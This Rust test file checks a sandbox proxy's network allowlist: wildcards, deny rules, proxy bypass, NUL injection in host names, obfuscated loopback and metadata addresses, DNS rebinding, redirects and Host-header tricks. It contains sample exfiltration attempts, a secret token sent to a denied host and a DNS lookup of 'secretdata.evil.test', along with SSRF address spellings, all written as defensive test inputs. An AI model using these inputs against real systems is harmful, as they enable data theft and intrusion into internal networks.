//! Who may be reached: cases NA-1 to NA-12, and their neighbours.

use super::lab::{Caller, Lab};
use super::{client, client_outside, client_with, codes};

fn lines(text: &str) -> Vec<&str> {
    text.lines().collect()
}

/// NA-1: an empty list allows nothing, and the user is told each name.
#[test]
fn an_empty_list_blocks_everything() {
    let lab = Lab::start();
    let script = "curl -fsS -m5 http://allowed.test/; echo a=$?; curl -fsS -m5 --noproxy '*' http://203.0.113.10/; echo b=$?; curl -sS -m5 -k https://denied.test/; echo c=$?";
    for &caller in lab.callers() {
        let desk = lab.desk(caller);
        let control = desk.control(&["sh", "-c", script]).output().success();
        for end in ["a=0", "b=0", "c=0"] {
            assert!(control.stdout.contains(end), "{control}");
        }
        lab.forget_hits();
        let out = desk.boxed(&[], &["sh", "-c", script]).output().success();
        for end in ["a=0", "b=0", "c=0"] {
            assert!(!out.stdout.contains(end), "{out}");
        }
        out.names_denied("allowed.test:80")
            .names_denied("denied.test:443");
        assert_eq!(lab.hits(), Vec::<String>::new());
    }
}

/// R44: with the network off the proxies answer and refuse, and the list does not count.
#[test]
fn network_off_refuses_listed_hosts_too() {
    let lab = Lab::start();
    let desk = lab.desk(Caller::User);
    let spec = format!(
        "network_enabled = false\n{}",
        desk.spec(&["allowed.test"], "")
    );
    let argv = [
        "curl",
        "-s",
        "-m5",
        "-w",
        "%{http_code}",
        "-o",
        "/dev/null",
        "http://allowed.test/",
    ];
    assert_eq!(desk.control(&argv).output().success().stdout, "200");
    lab.forget_hits();
    let out = desk.with_spec(&spec, &[], &argv).output().success();
    assert_eq!(out.stdout, "403", "{out}");
    out.names_denied("allowed.test:80");
    assert_eq!(lab.hits(), Vec::<String>::new());
}

/// NA-2: plain HTTP is filtered as strictly as CONNECT; queries are not repeated in messages.
#[test]
fn plain_http_is_filtered_like_connect() {
    let lab = Lab::start();
    let desk = lab.desk(Caller::User);
    let script = "curl -s -m5 http://allowed.test/ok; curl -s -m5 -o /dev/null -w '%{http_code}\\n' 'http://denied.test/log?token=SECRET'; curl -s -k -m5 -o /dev/null -w '%{http_connect}\\n' https://denied.test/; true";
    let control = desk.control(&["sh", "-c", script]).output().success();
    assert!(control.stdout.contains("\n200\n"), "{control}");
    assert_eq!(lab.hits_of("HTTP denied").len(), 2);
    lab.forget_hits();
    let out = desk
        .boxed(&["allowed.test"], &["sh", "-c", script])
        .output()
        .success();
    let got = lines(&out.stdout);
    assert!(got[0].starts_with("ORIGIN allowed"), "{out}");
    assert_eq!(got[1..], ["403", "403"], "{out}");
    assert!(
        !lab.hits().iter().any(|h| h.contains("denied")),
        "{:?}",
        lab.hits()
    );
    out.names_denied("denied.test:80")
        .names_denied("denied.test:443");
    assert!(!out.stderr.contains("SECRET"), "{out}");
}

/// NA-3: without the proxy there is no network, not a slower or an unfiltered one.
#[test]
fn going_around_the_proxy_reaches_nothing() {
    let lab = Lab::start();
    let targets = [
        "203.0.113.10:80",
        "203.0.113.11:80",
        "[2001:db8::10]:80",
        "127.0.0.1:9099",
        "198.18.0.1:9099",
        "169.254.169.254:80",
        "203.0.113.11:22",
        "10.77.0.5:80",
    ];
    let mut args = vec!["direct"];
    args.extend(targets);
    for &caller in lab.callers() {
        let desk = lab.desk(caller);
        let control = client_outside(&desk, &args).output().success();
        assert_eq!(
            control.stdout.matches(" open ").count(),
            targets.len(),
            "{control}"
        );
        lab.forget_hits();
        let out = client(&desk, &["allowed.test"], &args).output().success();
        assert!(!out.stdout.contains(" open "), "{out}");
        assert!(!out.stdout.contains("SLOW"), "{out}");
        let script = "unset http_proxy https_proxy HTTP_PROXY HTTPS_PROXY ALL_PROXY all_proxy; for u in http://denied.test/ http://203.0.113.10/; do curl -s -m5 $u && echo REACHED; done; true";
        assert_eq!(
            desk.boxed(&["allowed.test"], &["bash", "-c", script])
                .output()
                .success()
                .stdout,
            ""
        );
        assert_eq!(lab.hits(), Vec::<String>::new());
    }
}

/// NA-4: a NUL does not end a name for one reader and not for the other; the message escapes it.
#[test]
fn nul_in_a_socks_name_is_refused() {
    let lab = Lab::start();
    let desk = lab.desk(Caller::User);
    let out = client(
        &desk,
        &["*.allowed.test", "allowed.test"],
        &[
            "socks",
            "allowed.test",
            "80",
            "denied.test\\0.allowed.test",
            "80",
            "a\\r\\n.allowed.test",
            "80",
            "",
            "80",
        ],
    );
    let out = out.output().success();
    let got = lines(&out.stdout);
    assert_eq!(got[0], "allowed.test 80 0", "{out}");
    for line in &got[1..] {
        assert!(!line.ends_with(" 0"), "{out}");
    }
    assert!(!out.stderr.contains('\0'), "{out}");
    assert!(
        !lab.hits()
            .iter()
            .any(|h| h.contains("denied") || h.starts_with("DNS"))
    );
}

/// NA-5: malformed authorities get an answer, quickly, and break nothing.
#[test]
fn malformed_connect_authorities_are_refused() {
    let lab = Lab::start();
    let desk = lab.desk(Caller::User);
    let long = format!("{}.allowed.test:443", "a".repeat(300));
    let bad = [
        "denied.test\\0.allowed.test:443",
        "denied.test%00.allowed.test:443",
        "denied.test .allowed.test:443",
        "denied.test\\t.allowed.test:443",
        "denied.test\\r.allowed.test:443",
        "allowed.test",
        "allowed.test:",
        "allowed.test:0",
        "allowed.test:65536",
        "allowed.test:+443",
        "allowed.test:443:80",
        "",
        ":443",
        "user@allowed.test:443",
        "http://allowed.test:443",
        "/allowed.test:443",
        "allowed..test:443",
        ".allowed.test:443",
        "[allowed.test]:443",
        "2001:db8::10:443",
        "[::1:443",
        long.as_str(),
    ];
    let mut args = vec!["connect"];
    args.extend(bad);
    args.push("allowed.test:443");
    let out = client(&desk, &["*.allowed.test", "allowed.test"], &args)
        .output()
        .success();
    let got = lines(&out.stdout);
    assert_eq!(got.len(), bad.len() + 1, "{out}");
    let (last, refused) = got.split_last().unwrap();
    assert!(last.contains(" 200"), "a good request still works: {out}");
    for line in refused {
        assert!(
            line.contains("HTTP/1.1 4") || line.contains("closed"),
            "{line}\n{out}"
        );
    }
    assert!(
        !lab.hits()
            .iter()
            .any(|h| h.contains("denied") || h.starts_with("DNS")),
        "{:?}",
        lab.hits()
    );
}

/// NA-6: `*.d` is any depth of labels below `d`, never `d`, never a string that ends in it.
#[test]
fn a_suffix_wildcard_matches_labels() {
    let lab = Lab::start();
    let desk = lab.desk(Caller::User);
    let argv = codes(&[
        "api.allowed.test",
        "a.b.allowed.test",
        "allowed.test",
        "evilallowed.test",
        "allowed.test.denied.test",
    ]);
    assert_eq!(
        desk.control(&argv)
            .output()
            .success()
            .stdout
            .matches(" 200")
            .count(),
        5
    );
    let out = desk.boxed(&["*.allowed.test"], &argv).output().success();
    let want = [
        "api.allowed.test 200",
        "a.b.allowed.test 200",
        "allowed.test 403",
        "evilallowed.test 403",
        "allowed.test.denied.test 403",
    ];
    assert_eq!(lines(&out.stdout), want, "{out}");
}

/// R42: a star in the middle is exactly one label.
#[test]
fn a_middle_wildcard_is_one_label() {
    let lab = Lab::start();
    let desk = lab.desk(Caller::User);
    let argv = codes(&[
        "svc.one.allowed.test",
        "svc.one.two.allowed.test",
        "api.allowed.test",
    ]);
    assert_eq!(
        desk.control(&argv)
            .output()
            .success()
            .stdout
            .matches(" 200")
            .count(),
        3
    );
    let out = desk
        .boxed(&["svc.*.allowed.test"], &argv)
        .output()
        .success();
    assert_eq!(
        lines(&out.stdout),
        [
            "svc.one.allowed.test 200",
            "svc.one.two.allowed.test 403",
            "api.allowed.test 403"
        ],
        "{out}"
    );
}

/// NA-7: case and one trailing dot do not matter, neither for allowing nor for denying; IDN folds to ASCII.
#[test]
fn names_are_compared_in_one_spelling() {
    let lab = Lab::start();
    let desk = lab.desk(Caller::User);
    let spec = desk.spec(
        &[
            "allowed.test",
            "*.denied.test",
            "denied.test",
            "bücher.test",
        ],
        "denied_domains = [\"Denied.Test\", \"*.Denied.Test\", \"bad.allowed.test\"]",
    );
    let argv = codes(&[
        "ALLOWED.Test",
        "allowed.test.",
        "xn--bcher-kva.test",
        "denied.test",
        "denied.test.",
        "DENIED.TEST",
        "allowed.test.denied.test",
    ]);
    assert_eq!(
        desk.control(&argv)
            .output()
            .success()
            .stdout
            .matches(" 200")
            .count(),
        5, // a name with a final dot is not looked up in the hosts file, from which the rest comes
    );
    lab.forget_hits();
    let out = desk.with_spec(&spec, &[], &argv).output().success();
    let want: Vec<bool> = lines(&out.stdout)
        .iter()
        .map(|l| l.ends_with(" 200"))
        .collect();
    assert_eq!(
        want,
        [true, true, true, false, false, false, false],
        "{out}"
    );
    assert_eq!(out.stdout.matches(" 403").count(), 4, "{out}");
    assert_eq!(lab.hits_of("HTTP denied"), Vec::<String>::new());
}

/// NA-8: deny beats allow for plain HTTP, CONNECT and SOCKS alike.
#[test]
fn deny_beats_allow_on_every_path() {
    let lab = Lab::start();
    let desk = lab.desk(Caller::User);
    let spec = desk.spec(
        &["*.allowed.test", "allowed.test"],
        "denied_domains = [\"bad.allowed.test\"]",
    );
    let script = "curl -s -m5 -o /dev/null -w '%{http_code}\\n' http://bad.allowed.test/; curl -s -m5 -k -o /dev/null -w '%{http_connect}\\n' https://bad.allowed.test/; \
        curl -s -m5 --proxy \"$CCBOX_SOCKS_PROXY\" -o /dev/null -w '%{exitcode}\\n' http://bad.allowed.test/; curl -s -m5 http://api.allowed.test/";
    assert!(
        desk.control(&["curl", "-s", "http://bad.allowed.test/"])
            .output()
            .success()
            .stdout
            .contains("ORIGIN")
    );
    lab.forget_hits();
    let out = desk
        .with_spec(&spec, &[], &["sh", "-c", script])
        .output()
        .success();
    let got = lines(&out.stdout);
    assert_eq!(got[..2], ["403", "403"], "{out}");
    assert_ne!(got[2], "0", "{out}");
    assert!(got[3].starts_with("ORIGIN allowed"), "{out}");
    assert_eq!(lab.hits_of("CONN").len(), 1, "{:?}", lab.hits());
}

/// NA-9: an address, however spelled, is allowed only if it is listed.
#[test]
fn addresses_are_not_a_way_past_names() {
    let lab = Lab::start();
    let desk = lab.desk(Caller::User);
    let hosts = [
        "203.0.113.11",
        "203.0.113.10",
        "3405803787",
        "0xCB00710B",
        "0313.0.0161.013",
        "203.0.28939",
        "[::ffff:203.0.113.11]",
        "[::203.0.113.11]",
        "127.0.0.1:9099",
        "127.1:9099",
        "0:9099",
        "0x7f.1:9099",
        "2130706433:9099",
        "localhost:9099",
        "localhost.:9099",
        "[::1]:9099",
        "[::]:9099",
        "[::ffff:127.0.0.1]:9099",
        "[64:ff9b::7f00:1]:9099",
        "198.18.0.1:9099",
        "169.254.169.254",
    ];
    let urls: Vec<String> = hosts.iter().map(|h| format!("http://{h}/")).collect();
    let authorities: Vec<String> = hosts
        .iter()
        .map(|h| {
            if h.ends_with("9099") {
                (*h).to_owned()
            } else {
                format!("{h}:80")
            }
        })
        .collect();
    let control = desk
        .control(&codes(&["203.0.113.11", "127.0.0.1:9099", "[::1]:9099"]))
        .output()
        .success();
    assert_eq!(control.stdout.matches(" 200").count(), 3, "{control}");
    lab.forget_hits();
    for (verb, list) in [("get", &urls), ("connect", &authorities)] {
        let args: Vec<&str> = [verb]
            .into_iter()
            .chain(list.iter().map(String::as_str))
            .collect();
        let out = client(&desk, &["allowed.test"], &args).output().success();
        assert_eq!(lines(&out.stdout).len(), hosts.len(), "{out}");
        assert!(
            lines(&out.stdout).iter().all(|l| l.contains("HTTP/1.1 4")),
            "{out}"
        );
    }
    assert_eq!(lab.hits(), Vec::<String>::new());
    let out = desk
        .boxed(&["203.0.113.10"], &codes(&["203.0.113.10", "203.0.113.11"]))
        .output()
        .success();
    assert_eq!(
        lines(&out.stdout),
        ["203.0.113.10 200", "203.0.113.11 403"],
        "a listed address is allowed: {out}"
    );
}

/// NA-10: whoever owns an allowed name cannot aim the proxy at the user's machine or network.
#[test]
fn allowed_names_do_not_reach_private_addresses() {
    let lab = Lab::start();
    let desk = lab.desk(Caller::User);
    let hosts = [
        "loop.test:9099",
        "meta.test",
        "priv.test",
        "mixed.test",
        "mapped.test:9099",
        "nat64.test:9099",
        "ula.test",
        "allowed.test",
    ];
    let control = desk
        .control(&codes(&["loop.test:9099", "meta.test", "priv.test"]))
        .output()
        .success();
    assert_eq!(control.stdout.matches(" 200").count(), 3, "{control}");
    lab.forget_hits();
    let allow = [
        "loop.test",
        "meta.test",
        "priv.test",
        "mixed.test",
        "mapped.test",
        "nat64.test",
        "ula.test",
        "allowed.test",
    ];
    let out = desk.boxed(&allow, &codes(&hosts)).output().success();
    let got = lines(&out.stdout);
    for (line, host) in got.iter().zip(&hosts[..7]) {
        assert_eq!(*line, format!("{host} 403"), "{out}");
    }
    assert_eq!(got[7], "allowed.test 200", "{out}");
    assert_eq!(lab.hits_of("CONN").len(), 1, "{:?}", lab.hits());
    assert_eq!(lab.hits_of("LOOPBACK"), Vec::<String>::new());
    out.names_denied("loop.test:9099")
        .names_denied("meta.test:80")
        .names_denied("priv.test:80");
}

/// NA-10: the opt-in is per entry, and never opens a metadata address.
#[test]
fn a_private_address_needs_its_own_opt_in() {
    let lab = Lab::start();
    let desk = lab.desk(Caller::User);
    let spec = desk.spec(&[], "").replace(
        "allowed_domains = []",
        "allowed_domains = [{ host = \"priv.test\", allow_private = true }, { host = \"meta.test\", allow_private = true }]",
    );
    let out = desk
        .with_spec(&spec, &[], &codes(&["priv.test", "meta.test"]))
        .output()
        .success();
    assert_eq!(
        lines(&out.stdout),
        ["priv.test 200", "meta.test 403"],
        "{out}"
    );
    assert_eq!(lab.hits_of("CONN"), ["CONN priv 80"]);
}

/// A private address named with a port is that one port: neither its others nor its neighbours, by address or by name.
#[test]
fn a_named_private_port_is_the_only_one() {
    let lab = Lab::start();
    for &caller in lab.callers() {
        let desk = lab.desk(caller);
        let script = "for u in http://10.77.0.5/ http://10.77.0.5:443/ http://10.77.0.6/ http://priv.test/; do curl -s -m5 -o /dev/null -w '%{http_code} ' $u; done";
        let out = desk
            .boxed(&["10.77.0.5:80"], &["sh", "-c", script])
            .output();
        assert_eq!(out.stdout, "200 403 403 403 ", "{out}");
        out.names_denied("10.77.0.5:443")
            .names_denied("priv.test:80");
        let named = "[network]\nallowed_domains = [{ host = \"priv.test:80\", allow_private = true }]\nbaseline = false\n";
        let spec = format!("[[bind_mounts]]\nhost_path = \"{}\"\n{named}", desk.ws());
        let script = "for u in http://priv.test/ http://priv.test:443/ http://10.77.0.5/; do curl -s -m5 -o /dev/null -w '%{http_code} ' $u; done";
        let out = desk.with_spec(&spec, &[], &["sh", "-c", script]).output();
        assert_eq!(out.stdout, "200 403 403 ", "{out}");
    }
}

/// R45: what was checked is what is dialled. The name answers with a public address and with loopback by turns.
#[test]
fn a_rebinding_name_never_reaches_loopback() {
    let lab = Lab::start();
    let desk = lab.desk(Caller::User);
    let control = desk
        .control(&codes(&["flip.test:80"; 6]))
        .output()
        .success();
    assert_eq!(control.stdout.matches(" 200").count(), 6, "{control}");
    assert_eq!(
        lab.hits_of("LOOPBACK").len(),
        3,
        "the name does turn to loopback: {:?}",
        lab.hits()
    );
    lab.forget_hits();
    let out = desk
        .boxed(&["flip.test"], &codes(&["flip.test"; 6]))
        .output()
        .success();
    assert_eq!(out.stdout.matches(" 200").count(), 3, "{out}");
    assert_eq!(out.stdout.matches(" 403").count(), 3, "{out}");
    assert_eq!(lab.hits_of("LOOPBACK"), Vec::<String>::new());
    assert_eq!(
        lab.hits_of("DNS flip.test type=1").len(),
        6,
        "one look-up a connection: {:?}",
        lab.hits()
    );
}

/// NA-11: neither the child's own queries nor the names of refused hosts reach the name server.
#[test]
fn names_do_not_leak_to_the_name_server() {
    let lab = Lab::start();
    let desk = lab.desk(Caller::User);
    let script = "import socket
try: socket.getaddrinfo('secretdata.evil.test', 80)
except OSError: print('lookup failed')
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for a in ('203.0.113.53', '127.0.0.1'):
    try: s.sendto(b'\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x04leak\\x04test\\x00\\x00\\x01\\x00\\x01', (a, 53))
    except OSError: pass
";
    desk.control(&["/usr/bin/python3", "-c", script])
        .output()
        .success();
    assert!(
        lab.hits_of("DNS").len() >= 2,
        "the control leaks: {:?}",
        lab.hits()
    );
    lab.forget_hits();
    let out = desk
        .boxed(
            &["allowed.test", "dns.test"],
            &["/usr/bin/python3", "-c", script],
        )
        .output()
        .success();
    assert!(out.stdout.contains("lookup failed"), "{out}");
    let out = desk
        .boxed(
            &["allowed.test", "dns.test"],
            &codes(&["leak2.evil.test", "dns.test"]),
        )
        .output()
        .success();
    assert_eq!(
        lines(&out.stdout),
        ["leak2.evil.test 403", "dns.test 200"],
        "{out}"
    );
    assert!(
        lab.hits_of("DNS").iter().all(|h| h.contains(" dns.test ")),
        "{:?}",
        lab.hits()
    );
}

/// NA-12: a rule with a port opens that port; a rule without opens any port of the host (semantics 13).
#[test]
fn a_port_in_a_rule_narrows_it() {
    let lab = Lab::start();
    let desk = lab.desk(Caller::User);
    let args = [
        "connect",
        "allowed.test:8443",
        "allowed.test:22",
        "allowed.test:443",
    ];
    let out = client(&desk, &["allowed.test:8443"], &args)
        .output()
        .success();
    let ok: Vec<bool> = lines(&out.stdout)
        .iter()
        .map(|l| l.contains(" 200"))
        .collect();
    assert_eq!(ok, [true, false, false], "{out}");
    assert_eq!(out.stdout.matches(" 403").count(), 2, "{out}");
    assert_eq!(
        lab.hits_of("CONN").len() + lab.hits_of("TRAP").len(),
        1,
        "{:?}",
        lab.hits()
    );
    let out = client(&desk, &["allowed.test"], &args).output().success();
    assert_eq!(out.stdout.matches(" 200").count(), 3, "{out}");
}

/// A redirect is a new request: its target is judged like every other.
#[test]
fn a_redirect_does_not_lead_out() {
    let lab = Lab::start();
    let desk = lab.desk(Caller::User);
    let argv = [
        "curl",
        "-s",
        "-L",
        "-m5",
        "-o",
        "/dev/null",
        "-w",
        "%{http_code}",
        "http://allowed.test/redir",
    ];
    assert_eq!(desk.control(&argv).output().success().stdout, "200");
    lab.forget_hits();
    let out = desk.boxed(&["allowed.test"], &argv).output().success();
    assert_eq!(out.stdout, "403", "{out}");
    assert!(
        !lab.hits().iter().any(|h| h.contains("denied")),
        "{:?}",
        lab.hits()
    );
}

/// The Host header follows the judged authority, so a listed address cannot be asked for an unlisted site.
#[test]
fn the_host_header_is_overwritten() {
    let lab = Lab::start();
    let desk = lab.desk(Caller::User);
    let argv = [
        "curl",
        "-s",
        "-m5",
        "-H",
        "Host: denied.test",
        "http://allowed.test/",
    ];
    assert!(
        desk.control(&argv)
            .output()
            .success()
            .stdout
            .contains("host=denied.test")
    );
    let out = desk.boxed(&["allowed.test"], &argv).output();
    assert!(!out.stdout.contains("host=denied.test"), "{out}");
    assert!(
        !lab.hits_of("HTTP")
            .iter()
            .skip(1)
            .any(|h| h.contains("denied")),
        "{:?}",
        lab.hits()
    );
}

/// A lone star means public hosts; the fixed deny list and private addresses stay closed under it.
#[test]
fn a_star_is_not_everything() {
    let lab = Lab::start();
    let desk = lab.desk(Caller::User);
    let spec = desk.spec(&["*"], "");
    let out = desk
        .with_spec(
            &spec,
            &[],
            &codes(&[
                "allowed.test",
                "denied.test",
                "priv.test",
                "meta.test",
                "loop.test:9099",
                "169.254.169.254",
            ]),
        )
        .output()
        .success();
    let ok: Vec<bool> = lines(&out.stdout)
        .iter()
        .map(|l| l.ends_with(" 200"))
        .collect();
    assert_eq!(ok, [true, true, false, false, false, false], "{out}");
    let out = client_with(&desk, &spec, &["connect", "metadata.google.internal:80"])
        .output()
        .success();
    assert!(out.stdout.contains(" 403"), "{out}");
    assert!(
        lab.hits_of("DNS").iter().all(|h| !h.contains("metadata")),
        "{:?}",
        lab.hits()
    );
}
